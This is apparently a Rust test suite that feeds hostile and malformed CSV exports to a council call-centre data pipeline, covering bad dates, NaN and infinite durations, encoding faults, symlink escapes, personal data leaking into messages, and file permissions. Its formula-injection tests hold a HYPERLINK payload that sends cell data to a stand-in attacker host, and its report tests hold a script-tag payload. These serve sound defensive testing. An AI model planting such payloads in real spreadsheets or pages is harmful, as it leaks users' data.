//! Hostile and broken input (issue 16): one test per finding, each on a small export written
//! here byte by byte, run through the real binary.

use std::path::{Path, PathBuf};

use polars::prelude::*;

use crate::util::{strings, u64s, Workspace};

type Error = Box<dyn std::error::Error>;
type TestResult = Result<(), Error>;

/// A rejected row's cex_reason, cex_column and cex_value.
type Reject = (String, String, String);

/// The export's header: every row below has these seven fields.
const HEADER: &str = "Call ID,Started,Queue,Result,Wait,Talk,Site\n";

const QUEUES: &str = "queue,service\nHSG,Housing\nBins,Waste\n";

/// A pipeline over `data/*.csv` with one calls source; `quality` is added to `[quality]` and
/// `extra` at the end (e.g. a `[report]` table).
fn pipeline(quality: &str, extra: &str) -> String {
    format!(
        r#"
name = "hostile"
organisation = "Test Council"
lake = "lake"
output = "out"

[quality]
warn_reject_share = 0.01
fail_reject_share = 0.95
fail_on_unmapped_service = false
{quality}

[[sources]]
name = "calls"
kind = "calls"
files = "data/*.csv"
timestamp_formats = ["%Y-%m-%d %H:%M:%S", "%d/%m/%Y %H:%M:%S"]

[sources.columns]
record_id = "Call ID"
timestamp = "Started"
category = "Queue"
outcome = "Result"
wait = "Wait"
handle = "Talk"
location = "Site"

[sources.service]
lookup = "queues.csv"

[sources.outcomes]
answered = ["Answered"]
abandoned = ["Abandoned"]
{extra}
"#
    )
}

/// A workspace with `p.toml` (see [`pipeline`]), the queue lookup and `data/calls.csv`.
fn workspace(quality: &str, csv: impl AsRef<[u8]>) -> Workspace {
    let ws = Workspace::new();
    ws.write("p.toml", pipeline(quality, ""));
    ws.write("queues.csv", QUEUES);
    ws.write("data/calls.csv", csv);
    ws
}

/// The header followed by `rows` (each a line without its end).
fn calls(rows: &[&str]) -> String {
    let mut s = HEADER.to_string();
    for r in rows {
        s.push_str(r);
        s.push('\n');
    }
    s
}

/// A CSV with every column read as text (no type inference).
/// Rejects are written in their export's delimiter: the one after `cex_row` in the header.
fn read_text_csv(path: &Path) -> Result<DataFrame, Error> {
    let text = std::fs::read(path)?;
    let separator = text
        .windows(8)
        .find(|w| w.starts_with(b"cex_row"))
        .map_or(b',', |w| w[7]);
    Ok(CsvReadOptions::default()
        .with_has_header(true)
        .with_infer_schema_length(Some(0))
        .map_parse_options(|o| o.with_separator(separator))
        .try_into_reader_with_file_path(Some(path.to_path_buf()))?
        .finish()?)
}

/// Every file under `dir` whose name ends with `ext`; with `ext` empty, every file and folder.
fn files_under(dir: &Path, ext: &str) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let p = e.path();
            if p.is_dir() {
                if ext.is_empty() {
                    out.push(p.clone());
                }
                stack.push(p);
            } else if p.to_string_lossy().ends_with(ext) {
                out.push(p);
            }
        }
    }
    out.sort();
    out
}

/// The source's rejects, all files together, every column as text.
fn rejects(ws: &Workspace) -> Result<DataFrame, Error> {
    let files = files_under(&ws.path().join("lake/rejects/calls"), ".csv");
    let mut frames = Vec::new();
    for f in &files {
        frames.push(read_text_csv(f)?.lazy());
    }
    if frames.is_empty() {
        return Err("no rejects file".into());
    }
    Ok(concat(frames, UnionArgs::default())?.collect()?)
}

/// (cex_reason, cex_column, cex_value) of every reject, as text.
fn reject_rows(ws: &Workspace) -> Result<Vec<Reject>, Error> {
    let df = rejects(ws)?;
    let text = |c: &str| strings(&df, c).into_iter().map(Option::unwrap_or_default);
    Ok(text("cex_reason")
        .zip(text("cex_column"))
        .zip(text("cex_value"))
        .map(|((r, c), v)| (r, c, v))
        .collect())
}

fn reasons(ws: &Workspace) -> Result<Vec<String>, Error> {
    let mut r: Vec<String> = reject_rows(ws)?.into_iter().map(|(r, _, _)| r).collect();
    r.sort();
    Ok(r)
}

fn sorted_keys(ws: &Workspace) -> Vec<String> {
    let mut keys: Vec<String> = strings(&ws.lake_table("contacts"), "record_key")
        .into_iter()
        .flatten()
        .collect();
    keys.sort();
    keys
}

/// The line of `output` that contains `needle`, or a failure showing the whole output.
fn line_with<'a>(output: &'a str, needle: &str) -> Result<&'a str, String> {
    output
        .lines()
        .find(|l| l.contains(needle))
        .ok_or_else(|| format!("no line with {needle:?} in\n{output}"))
}

/// A float column of the contacts table, the rows in record key order.
fn lake_seconds(ws: &Workspace, name: &str) -> Result<Vec<Option<f64>>, Error> {
    let lake = ws
        .lake_table("contacts")
        .sort(["record_key"], Default::default())?;
    Ok(lake.column(name)?.f64()?.iter().collect())
}

/// Rewrites parts of a workbook as a program other than rust_xlsxwriter would have saved them
/// (Python's zipfile): in the sheets' XML each `sheets` pair replaced, in `xl/workbook.xml`
/// each `settings` pair.
fn rewrite_workbook(path: &Path, sheets: &[(&str, &str)], settings: &[(&str, &str)]) -> TestResult {
    let script = r#"
import json, sys, zipfile
path, sheets, settings = sys.argv[1], json.loads(sys.argv[2]), json.loads(sys.argv[3])
parts = {}
with zipfile.ZipFile(path) as z:
    for name in z.namelist():
        parts[name] = z.read(name)
with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
    for name, data in parts.items():
        pairs = sheets if name.startswith("xl/worksheets/") else settings if name == "xl/workbook.xml" else []
        for old, new in pairs:
            data = data.replace(old.encode(), new.encode())
        z.writestr(name, data)
"#;
    let json = |pairs: &[(&str, &str)]| {
        serde_json::to_string(&pairs.iter().map(|(a, b)| [*a, *b]).collect::<Vec<_>>())
    };
    let done = std::process::Command::new("python3")
        .args(["-c", script])
        .arg(path)
        .arg(json(sheets)?)
        .arg(json(settings)?)
        .status()?;
    assert!(done.success(), "python3 rewrote the workbook");
    Ok(())
}

/// Every rejects file's text, one after another.
fn rejects_text(ws: &Workspace) -> Result<String, Error> {
    let mut seen = String::new();
    for file in files_under(&ws.path().join("lake/rejects"), "csv") {
        seen.push_str(&std::fs::read_to_string(&file)?);
    }
    Ok(seen)
}

/// None of `personal` in the rejects' text, the commands' output or `last-run.json`.
fn assert_none_kept(
    ws: &Workspace,
    rejects: &str,
    runs: &[&crate::util::Output],
    personal: &[&str],
) {
    let last = last_run(ws).unwrap_or_default();
    let texts = runs
        .iter()
        .flat_map(|r| [r.stdout.as_str(), r.stderr.as_str()])
        .chain([rejects, last.as_str()]);
    for text in texts {
        for p in personal {
            assert!(!text.contains(p), "{p} kept: {text}");
        }
    }
}

fn last_run(ws: &Workspace) -> Result<String, std::io::Error> {
    std::fs::read_to_string(ws.path().join("out/last-run.json"))
}

// 1 --------------------------------------------------------------------------------------------

#[test]
fn hostile_implausible_dates_are_rejected_and_never_partitioned() -> TestResult {
    let ws = workspace(
        "",
        calls(&[
            "D1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot",
            "D2,0024-04-05 10:00:00,HSG,Answered,10,60,Depot",
            "D3,2099-04-05 10:00:00,HSG,Answered,10,60,Depot",
            "D4,05/04/24 10:00:00,HSG,Answered,10,60,Depot",
        ]),
    );
    ws.cex(&["ingest", "p.toml"]).assert_code(0);
    assert_eq!(sorted_keys(&ws), ["D1"]);
    assert_eq!(reasons(&ws)?, ["implausible_date"; 3]);
    let contacts = ws.path().join("lake/contacts");
    let paths = files_under(&contacts, "");
    assert!(paths.iter().any(|p| p.ends_with("year=2024")), "{paths:?}");
    for p in paths {
        let text = p.to_string_lossy();
        for bad in ["year=24", "year=0024", "year=2099", "=2099-", "=0024-"] {
            assert!(!text.contains(bad), "{text}");
        }
    }
    // The default period comes from the months that hold believable rows: April 2024, never
    // an empty month of 2099.
    ws.cex(&["run", "p.toml", "--skip", "ingest", "--as-of", "2024-06-15"])
        .assert_code(0);
    assert!(ws.path().join("out/2024-04").is_dir());
    let published: Vec<String> = std::fs::read_dir(ws.path().join("out"))?
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        published
            .iter()
            .all(|n| !n.contains("2099") && !n.contains("0024")),
        "{published:?}"
    );
    Ok(())
}

#[test]
fn hostile_date_limits_follow_quality_settings_and_the_as_of_day() -> TestResult {
    let ws = workspace(
        "earliest_date = \"2024-04-01\"\nfuture_days = 2",
        calls(&[
            "E1,2024-03-31 12:00:00,HSG,Answered,10,60,Depot",
            "E2,2024-04-01 09:00:00,HSG,Answered,10,60,Depot",
            "E3,2024-04-12 09:00:00,HSG,Answered,10,60,Depot",
            "E4,2024-04-13 09:00:00,HSG,Answered,10,60,Depot",
        ]),
    );
    ws.cex(&[
        "run",
        "p.toml",
        "--as-of",
        "2024-04-10",
        "--period",
        "2024-04",
        "--skip",
        "equality,charts,report",
    ])
    .assert_code(0);
    assert_eq!(sorted_keys(&ws), ["E2", "E3"]);
    assert_eq!(reasons(&ws)?, ["implausible_date"; 2]);
    Ok(())
}

// 2 --------------------------------------------------------------------------------------------

#[test]
fn hostile_impossible_durations_are_rejected_and_nothing_published_is_nan() -> TestResult {
    let ws = workspace(
        "",
        calls(&[
            "N1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot",
            "N2,2024-04-05 10:01:00,HSG,Answered,1e30,60,Depot",
            "N3,2024-04-05 10:02:00,HSG,Answered,99999999999999999999,60,Depot",
            "N4,2024-04-05 10:03:00,HSG,Answered,NaN,60,Depot",
            "N5,2024-04-05 10:04:00,HSG,Answered,10,inf,Depot",
            "N6,2024-04-05 10:05:00,HSG,Answered,-inf,60,Depot",
            "N7,2024-04-05 10:06:00,HSG,Answered,-3,60,Depot",
            "N8,2024-04-05 10:07:00,HSG,Answered,10,90000,Depot",
        ]),
    );
    ws.cex(&[
        "run",
        "p.toml",
        "--as-of",
        "2024-05-10",
        "--period",
        "2024-04",
        "--skip",
        "equality,charts,report",
    ])
    .assert_code(0);
    assert_eq!(sorted_keys(&ws), ["N1"]);
    let mut by_row: Vec<(String, String)> = reject_rows(&ws)?
        .into_iter()
        .map(|(r, _, v)| (v, r))
        .collect();
    by_row.sort();
    let expected = [
        ("-3", "negative_duration"),
        ("-inf", "negative_duration"),
        ("1e30", "implausible_duration"),
        ("90000", "implausible_duration"),
        ("99999999999999999999", "implausible_duration"),
        ("NaN", "implausible_duration"),
        ("inf", "implausible_duration"),
    ]
    .map(|(v, r)| (v.to_string(), r.to_string()));
    assert_eq!(by_row, expected);
    let published = files_under(&ws.path().join("out/2024-04"), ".csv");
    assert!(
        published.iter().any(|p| p.ends_with("contact_centre.csv")),
        "{published:?}"
    );
    for p in published {
        let df = read_text_csv(&p)?;
        for column in df.columns() {
            for cell in column.str()?.iter().flatten() {
                let cell = cell
                    .trim()
                    .trim_start_matches(['+', '-'])
                    .to_ascii_lowercase();
                assert!(
                    !["nan", "inf", "infinity"].contains(&cell.as_str()),
                    "{}: {cell}",
                    p.display()
                );
            }
        }
    }
    Ok(())
}

// 3 --------------------------------------------------------------------------------------------

/// "Paid £120 – café’s" as Windows-1252: £ 0xA3, – 0x96, é 0xE9, ’ 0x92.
const PAID_1252: &[u8] = b"Paid \xA3120 \x96 caf\xE9\x92s";
const PAID: &str = "Paid £120 – café’s";

#[test]
fn hostile_one_windows_1252_line_in_a_utf8_file_is_repaired_alone() -> TestResult {
    let mut bytes = HEADER.as_bytes().to_vec();
    bytes.extend_from_slice(
        format!("M1,2024-04-05 10:00:00,HSG,Answered,10,60,{PAID}\n").as_bytes(),
    );
    bytes.extend_from_slice(b"M2,2024-04-05 10:01:00,HSG,Answered,10,60,");
    bytes.extend_from_slice(PAID_1252);
    bytes.push(b'\n');
    bytes.extend_from_slice(
        format!("M3,2024-04-05 10:02:00,HSG,Answered,-1,60,{PAID}\n").as_bytes(),
    );
    let ws = workspace("", bytes);
    let out = ws.cex(&["ingest", "p.toml"]);
    out.assert_code(0);
    let contacts = ws
        .lake_table("contacts")
        .sort(["record_key"], Default::default())?;
    assert_eq!(
        strings(&contacts, "location"),
        [Some(PAID.to_string()), Some(PAID.to_string())]
    );
    // The raw row of a UTF-8 line is kept as it was, too.
    let rejects = rejects(&ws)?;
    assert_eq!(strings(&rejects, "Site"), [Some(PAID.to_string())]);
    // Warnings are printed with the ingest table, on stdout.
    line_with(&out.stdout, "1 line was not UTF-8 and read as Windows-1252")?;
    assert_eq!(
        strings(&ws.manifest(), "encoding"),
        [Some("utf-8 (1 line windows-1252)".to_string())]
    );
    Ok(())
}

#[test]
fn hostile_a_windows_1252_file_is_decoded_throughout() -> TestResult {
    let mut bytes = HEADER.as_bytes().to_vec();
    for id in ["W1", "W2"] {
        bytes.extend_from_slice(format!("{id},2024-04-05 10:00:00,HSG,Answered,10,60,").as_bytes());
        bytes.extend_from_slice(PAID_1252);
        bytes.extend_from_slice(b"\r\n");
    }
    let ws = workspace("", bytes);
    let out = ws.cex(&["ingest", "p.toml"]);
    out.assert_code(0);
    assert_eq!(
        strings(&ws.lake_table("contacts"), "location"),
        [Some(PAID.to_string()), Some(PAID.to_string())]
    );
    assert_eq!(
        strings(&ws.manifest(), "encoding"),
        [Some("windows-1252".to_string())]
    );
    assert!(!out.stdout.contains("not UTF-8"), "{}", out.stdout);
    Ok(())
}

// 4 --------------------------------------------------------------------------------------------

#[test]
fn hostile_rows_of_the_wrong_shape_are_rejected_as_exported() -> TestResult {
    let short = "S2,2024-04-05 10:01:00,HSG";
    let long = "S3,2024-04-05 10:02:00,HSG,Answered,10,60,\"Caf\u{e9}, \"\"North\"\"\",extra,  ";
    let csv = [
        HEADER.trim_end(),
        "S1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot",
        short,
        "",
        long,
        "S4,2024-04-05 10:03:00,HSG,Answered,10,60,Depot,,",
        "S5,2024-04-05 10:04:00,HSG,Answered,10,60,\"North, \r\nDepot\"",
        "S1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot",
        "",
    ]
    .join("\r\n");
    let ws = workspace("", csv);
    let out = ws.cex(&["ingest", "p.toml"]);
    out.assert_code(0);
    assert_eq!(sorted_keys(&ws), ["S1", "S4", "S5"]);
    let mut rows = reject_rows(&ws)?;
    rows.sort();
    let expected = [short, long].map(|v| {
        (
            "wrong_field_count".to_string(),
            "(whole row)".to_string(),
            v.to_string(),
        )
    });
    assert_eq!(rows, expected);
    // Six records (blank lines are not rows): three kept, two rejected, one repeated.
    let manifest = ws.manifest();
    assert_eq!(u64s(&manifest, "rows_read"), [6]);
    assert_eq!(u64s(&manifest, "accepted"), [3]);
    assert_eq!(u64s(&manifest, "rejected"), [2]);
    assert_eq!(u64s(&manifest, "duplicates"), [1]);
    let line: Vec<&str> = out
        .stdout
        .lines()
        .find(|l| l.starts_with("data/calls.csv"))
        .unwrap_or_default()
        .split_whitespace()
        .collect();
    assert_eq!(
        line.get(1..5),
        Some(&["6", "3", "2", "1"][..]),
        "{}",
        out.stdout
    );
    Ok(())
}

#[test]
fn hostile_a_misaligned_row_keeps_no_personal_data_from_its_comment() -> TestResult {
    // A source with a free-text comment and a postcode: a row with one field too many has its
    // fields in the wrong columns, so any may hold the comment. Its text is kept in the rejects
    // scrubbed as a comment is (never "as exported"), and `cex validate` shows none of it either.
    let header = "Call ID,Started,Queue,Result,Wait,Talk,Site,Postcode,Notes";
    let personal = ["07700 900123", "OX1 2JD", "jo@example.org"];
    let good = "M1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot,LS1 4AP,fine";
    let misaligned = "M2,2024-04-05 10:01:00,HSG,Answered,10,60,Depot,OX1 2JD,ring 07700 900123 or jo@example.org,extra";
    let ws = Workspace::new();
    ws.write(
        "p.toml",
        pipeline("", "").replace(
            "location = \"Site\"",
            "location = \"Site\"\npostcode = \"Postcode\"\ncomment = \"Notes\"",
        ),
    );
    ws.write("queues.csv", QUEUES);
    ws.write(
        "data/calls.csv",
        format!("{header}\n{good}\n{misaligned}\n"),
    );
    let validate = ws.cex(&["validate", "p.toml"]);
    validate.assert_code(0);
    let out = ws.cex(&["ingest", "p.toml"]);
    out.assert_code(0);
    assert_eq!(sorted_keys(&ws), ["M1"]);
    assert_eq!(reasons(&ws)?, ["wrong_field_count"]);
    let seen = rejects_text(&ws)?;
    assert!(seen.contains("M2"), "the row is in the rejects: {seen}");
    assert_none_kept(&ws, &seen, &[&validate, &out], &personal);
    Ok(())
}

// 5 --------------------------------------------------------------------------------------------

#[test]
fn hostile_a_header_only_file_warns_or_fails_when_configured() -> TestResult {
    let ws = workspace("", HEADER);
    let out = ws.cex(&["ingest", "p.toml"]);
    out.assert_code(0);
    // Warnings are printed with the ingest table, on stdout.
    line_with(&out.stdout, "header and no rows")?;

    let strict = workspace("fail_on_empty_file = true", HEADER);
    let out = strict.cex(&["ingest", "p.toml"]);
    out.assert_code(4);
    assert!(
        format!("{}{}", out.stdout, out.stderr).contains("header and no rows"),
        "{}\n{}",
        out.stdout,
        out.stderr
    );
    Ok(())
}

// 6 --------------------------------------------------------------------------------------------

#[test]
fn hostile_duplicate_header_names_are_refused_naming_both() -> TestResult {
    let ws = workspace(
        "",
        "Call ID,Started,Queue,Result,Wait,wait ,Talk,Site\n\
         H1,2024-04-05 10:00:00,HSG,Answered,10,11,60,Depot\n",
    );
    let out = ws.cex(&["ingest", "p.toml"]);
    out.assert_code(3);
    let line = line_with(&out.stderr, "both named")?;
    assert!(line.contains("data/calls.csv"), "{line}");
    assert!(line.contains("columns 5 and 6"), "{line}");
    assert!(line.contains("'wait'"), "{line}");
    Ok(())
}

#[test]
fn hostile_a_repeated_header_nobody_maps_costs_nothing() -> TestResult {
    // Real exports repeat columns nobody maps ("Other" and "Other ", two "Notes"): the file is
    // read, every row accepted, and the repeated columns kept apart in the rejects' layout.
    let ws = workspace(
        "",
        "Call ID,Started,Queue,Result,Wait,Notes,Talk,notes ,Site\n\
         H1,2024-04-05 10:00:00,HSG,Answered,10,a,60,b,Depot\n\
         H2,2024-04-05 11:00:00,HSG,Answered,12,c,70,d,Depot\n",
    );
    let out = ws.cex(&["ingest", "p.toml"]);
    out.assert_code(0);
    assert!(
        !format!("{}{}", out.stdout, out.stderr).contains("both named"),
        "{}\n{}",
        out.stdout,
        out.stderr
    );
    assert_eq!(ws.lake_table("contacts").height(), 2, "{}", out.stdout);
    Ok(())
}

#[test]
fn hostile_a_wrong_delimiter_is_named_and_the_right_one_suggested() -> TestResult {
    for (text, says) in [
        (
            "Call ID;Started;Queue;Result;Wait;Talk;Site\nH1;2024-04-05 10:00:00;HSG;Answered;10;60;Depot\n",
            "set delimiter = \";\"",
        ),
        (
            "Call ID\tStarted\tQueue\tResult\tWait\tTalk\tSite\nH1\t2024-04-05 10:00:00\tHSG\tAnswered\t10\t60\tDepot\n",
            "set delimiter = \"\\t\"",
        ),
    ] {
        let ws = workspace("", text);
        let out = ws.cex(&["ingest", "p.toml"]);
        out.assert_code(3);
        let line = line_with(&out.stderr, "reads as one column")?;
        assert!(line.contains("data/calls.csv") && line.contains(says), "{line}");
    }
    Ok(())
}

// 7 --------------------------------------------------------------------------------------------

#[cfg(unix)]
#[test]
fn hostile_a_dangling_symlink_is_refused_naming_the_link() -> TestResult {
    let ws = workspace(
        "",
        calls(&["L1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot"]),
    );
    std::os::unix::fs::symlink(
        ws.path().join("data/gone.txt"),
        ws.path().join("data/ghost.csv"),
    )?;
    let out = ws.cex(&["ingest", "p.toml"]);
    out.assert_code(3);
    let line = line_with(&out.stderr, "ghost.csv")?;
    assert!(line.contains("dangling"), "{line}");
    // The link is named, never what it points to.
    assert!(!out.stderr.contains("gone.txt"), "{}", out.stderr);
    assert!(!ws.path().join("lake/manifest/_delta_log").exists());
    Ok(())
}

#[cfg(unix)]
#[test]
fn hostile_a_symlink_out_of_the_export_folder_is_refused_unread() -> TestResult {
    let ws = workspace(
        "",
        calls(&["L1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot"]),
    );
    let secret = ws.write(
        "secret/keys.csv",
        "SECRET-TOKEN-123,x\nSECRET-TOKEN-456,y\n",
    );
    std::os::unix::fs::symlink(&secret, ws.path().join("data/leak.csv"))?;
    let out = ws.cex(&["run", "p.toml", "--skip", "equality,charts,report"]);
    out.assert_code(3);
    line_with(&out.stderr, "leak.csv")?;
    let json = last_run(&ws)?;
    for (name, text) in [
        ("stdout", &out.stdout),
        ("stderr", &out.stderr),
        ("last-run.json", &json),
    ] {
        assert!(!text.contains("SECRET-TOKEN"), "{name}:\n{text}");
        // Nor where it points: a path names someone's folder too.
        assert!(!text.contains("keys.csv"), "{name}:\n{text}");
    }
    Ok(())
}

// 8 --------------------------------------------------------------------------------------------

#[test]
fn hostile_without_record_id_identical_rows_are_kept_and_keys_hold_no_content() -> TestResult {
    let ws = Workspace::new();
    let text = pipeline("", "").replace("record_id = \"Call ID\"\n", "");
    ws.write("p.toml", text);
    ws.write(
        "queues.csv",
        "queue,service\nMissed bin at 12 Acacia Avenue,Waste\n",
    );
    let row = "2024-04-05 10:00:00,Missed bin at 12 Acacia Avenue,Answered,10,60,OX1 2AB";
    let csv = format!("Started,Queue,Result,Wait,Talk,Site\n{row}\n{row}\n{row}\n");
    ws.write("data/calls.csv", &csv);
    ws.cex(&["ingest", "p.toml"]).assert_code(0);
    let manifest = ws.manifest();
    assert_eq!(u64s(&manifest, "accepted"), [3]);
    assert_eq!(u64s(&manifest, "duplicates"), [0]);
    let file_id = strings(&manifest, "file_id")
        .into_iter()
        .flatten()
        .next()
        .ok_or("no file id")?;
    assert_eq!(file_id.len(), 16, "{file_id}");
    assert!(
        sha256_hex(csv.as_bytes()).starts_with(&file_id),
        "{file_id}"
    );
    assert_eq!(
        sorted_keys(&ws),
        [2, 3, 4].map(|row| format!("{file_id}:{row}"))
    );
    Ok(())
}

fn sha256_hex(bytes: &[u8]) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

// 9 --------------------------------------------------------------------------------------------

#[test]
fn hostile_lake_output_and_exports_stay_out_of_system_folders_and_apart() -> TestResult {
    let ws = workspace(
        "",
        calls(&["P1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot"]),
    );
    let base = pipeline("", "");
    for (from, to, key) in [
        ("lake = \"lake\"", "lake = \"/\"", "lake"),
        ("lake = \"lake\"", "lake = \"/etc\"", "lake"),
        ("output = \"out\"", "output = \"lake\"", "output"),
        ("output = \"out\"", "output = \"lake/out\"", "output"),
        (
            "files = \"data/*.csv\"",
            "files = \"/etc/*.conf\"",
            "sources[0] (calls).files",
        ),
    ] {
        ws.write("p.toml", base.replace(from, to));
        let out = ws.cex(&["validate", "p.toml"]);
        out.assert_code(2);
        let line = line_with(&out.stderr, &format!("- {key}: "))?;
        assert!(
            line.contains(to.split('"').nth(1).unwrap_or(to)),
            "{to}: {line}"
        );
    }
    Ok(())
}

#[test]
fn hostile_a_period_folder_cex_did_not_write_is_never_replaced() -> TestResult {
    let ws = workspace(
        "",
        calls(&["P1,2025-03-05 10:00:00,HSG,Answered,10,60,Depot"]),
    );
    let theirs = b"Ref,Amount\nA1,\xA3120\n".to_vec();
    let path = ws.write("out/2025-03/finance_export.csv", &theirs);
    let out = ws.cex(&[
        "run",
        "p.toml",
        "--as-of",
        "2025-04-10",
        "--period",
        "2025-03",
        "--skip",
        "equality,charts,report",
    ]);
    assert_ne!(out.code, 0, "{}\n{}", out.stdout, out.stderr);
    line_with(&out.stderr, "not a folder cex published")?;
    assert_eq!(std::fs::read(&path)?, theirs);
    Ok(())
}

// 10 -------------------------------------------------------------------------------------------

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"x\")";
const SCRIPT: &str = "<script>alert(1)</script>";

#[test]
fn hostile_published_csv_cells_never_start_a_formula() -> TestResult {
    let ws = workspace(
        "",
        calls(&[
            "F1,2024-04-05 10:00:00,EVIL,Answered,10,60,Depot",
            "F2,2024-04-05 10:01:00,=1+1,Answered,10,60,Depot",
        ]),
    );
    ws.write(
        "queues.csv",
        format!(
            "queue,service\nEVIL,\"{}\"\n\"=1+1\",Housing\n",
            HYPERLINK.replace('"', "\"\"")
        ),
    );
    ws.cex(&[
        "run",
        "p.toml",
        "--as-of",
        "2024-05-10",
        "--period",
        "2024-04",
        "--skip",
        "equality,charts,report",
    ])
    .assert_code(0);
    // The service name really reached the lake, and the publications.
    assert!(strings(&ws.lake_table("contacts"), "service").contains(&Some(HYPERLINK.to_string())));
    let published = files_under(&ws.path().join("out/2024-04"), ".csv");
    let mut seen = false;
    for p in &published {
        let df = read_text_csv(p)?;
        for column in df.columns() {
            for cell in column.str()?.iter().flatten() {
                assert!(!cell.starts_with('='), "{}: {cell}", p.display());
                seen |= cell == format!("'{HYPERLINK}");
            }
        }
    }
    assert!(seen, "no published cell holds '{HYPERLINK}: {published:?}");
    Ok(())
}

#[test]
fn hostile_report_titles_and_names_are_never_markup() -> TestResult {
    let ws = workspace(
        "",
        calls(&["R1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot"]),
    );
    let text = pipeline("", &format!("[report]\ntitle = \"{SCRIPT}\"\n")).replace(
        "organisation = \"Test Council\"",
        &format!("organisation = \"{SCRIPT}\""),
    );
    ws.write("p.toml", text);
    ws.cex(&[
        "run",
        "p.toml",
        "--as-of",
        "2024-05-10",
        "--period",
        "2024-04",
    ])
    .assert_code(0);
    for name in ["report.md", "report.html"] {
        let report = std::fs::read_to_string(ws.path().join("out/2024-04").join(name))?;
        assert!(
            !report.to_ascii_lowercase().contains("<script"),
            "{name}:\n{report}"
        );
        assert!(report.contains("alert(1)"), "{name}: the title is shown");
    }
    Ok(())
}

// 11 -------------------------------------------------------------------------------------------

#[test]
fn hostile_personal_data_in_a_value_stays_out_of_messages() -> TestResult {
    let ws = workspace(
        "",
        calls(&[
            "X1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot",
            "X2,2024-04-05 10:01:00,Call 07700 900123 or jo.bloggs@example.com,Answered,10,60,Depot",
        ]),
    );
    let out = ws.cex(&[
        "run",
        "p.toml",
        "--as-of",
        "2024-05-10",
        "--period",
        "2024-04",
        "--skip",
        "equality,charts,report",
    ]);
    out.assert_code(0);
    let json = last_run(&ws)?;
    // The value was seen and reported on: it is rejected unmapped.
    assert_eq!(reasons(&ws)?, ["unmapped_service"]);
    // Warnings are printed on stdout: they must not carry the value either.
    for (name, text) in [
        ("stdout", &out.stdout),
        ("stderr", &out.stderr),
        ("last-run.json", &json),
    ] {
        for secret in ["07700", "900123", "jo.bloggs", "example.com"] {
            assert!(!text.contains(secret), "{secret} in {name}:\n{text}");
        }
    }
    Ok(())
}

/// Every message line is at most about 300 characters, whatever the size of the input.
const LONGEST_LINE: usize = 300;

fn assert_short_lines(output: &str) {
    for line in output.lines() {
        let n = line.chars().count();
        assert!(
            n <= LONGEST_LINE,
            "a line of {n} characters: {}...",
            line.chars().take(200).collect::<String>()
        );
    }
}

#[test]
fn hostile_a_5_mb_single_line_file_gives_short_messages() -> TestResult {
    let line = "Queue-name-".repeat(5 * 1024 * 1024 / 11);
    let ws = workspace("", line);
    let out = ws.cex(&["ingest", "p.toml"]);
    assert_ne!(out.code, 0);
    assert!(!out.stderr.contains("panicked"));
    assert_short_lines(&out.stderr);
    Ok(())
}

/// Ingest of a file whose second row has a 100 KB category value (rejected unmapped).
fn ingest_a_100_kb_value() -> Result<crate::util::Output, Error> {
    let huge = "Q".repeat(100 * 1024);
    let ws = workspace(
        "",
        calls(&[
            "V1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot",
            &format!("V2,2024-04-05 10:01:00,{huge},Answered,10,60,Depot"),
        ]),
    );
    let out = ws.cex(&["ingest", "p.toml"]);
    out.assert_code(0);
    assert_eq!(reasons(&ws)?, ["unmapped_service"]);
    Ok(out)
}

#[test]
fn hostile_a_100_kb_value_gives_short_stderr_lines() -> TestResult {
    assert_short_lines(&ingest_a_100_kb_value()?.stderr);
    Ok(())
}

#[test]
fn hostile_a_100_kb_value_is_cut_in_the_warning() -> TestResult {
    let out = ingest_a_100_kb_value()?;
    line_with(&out.stdout, "no service mapping for 'QQQ")?;
    assert_short_lines(&out.stdout);
    Ok(())
}

// 12 -------------------------------------------------------------------------------------------

/// Which of `paths` group or others can read, write or enter, with their modes.
#[cfg(unix)]
fn open_to_others(paths: impl IntoIterator<Item = PathBuf>) -> Result<Vec<String>, std::io::Error> {
    use std::os::unix::fs::PermissionsExt;
    let mut out = Vec::new();
    for p in paths {
        let mode = std::fs::metadata(&p)?.permissions().mode() & 0o777;
        if mode & 0o077 != 0 {
            out.push(format!("{:o} {}", mode, p.display()));
        }
    }
    Ok(out)
}

#[cfg(unix)]
fn owner_only_fixture() -> Workspace {
    let ws = workspace(
        "",
        calls(&[
            "O1,2024-04-05 10:00:00,HSG,Answered,10,60,Depot",
            "O2,2024-04-05 10:01:00,HSG,Answered,-10,60,Depot",
        ]),
    );
    ws.cex(&["ingest", "p.toml"]).assert_code(0);
    ws
}

#[cfg(unix)]
#[test]
fn hostile_the_lake_root_rejects_and_data_files_are_owner_only() -> TestResult {
    let ws = owner_only_fixture();
    let lake = ws.path().join("lake");
    let parquet = files_under(&lake.join("contacts"), ".parquet");
    assert!(!parquet.is_empty());
    let mut paths = vec![lake.clone(), lake.join("rejects/calls")];
    paths.extend(files_under(&lake.join("rejects"), ".csv"));
    paths.extend(parquet);
    let open = open_to_others(paths)?;
    assert!(open.is_empty(), "{open:#?}");
    Ok(())
}

#[cfg(unix)]
#[test]
fn hostile_every_lake_folder_and_file_is_owner_only() -> TestResult {
    let ws = owner_only_fixture();
    let lake = ws.path().join("lake");
    let mut paths = vec![lake.clone()];
    paths.extend(files_under(&lake, ""));
    // The lock file holds nothing.
    paths.retain(|p| !p.ends_with(".lock"));
    let open = open_to_others(paths)?;
    assert!(open.is_empty(), "{open:#?}");
    Ok(())
}

#[test]
fn hostile_a_comma_that_groups_no_thousands_is_rejected_not_dropped() -> TestResult {
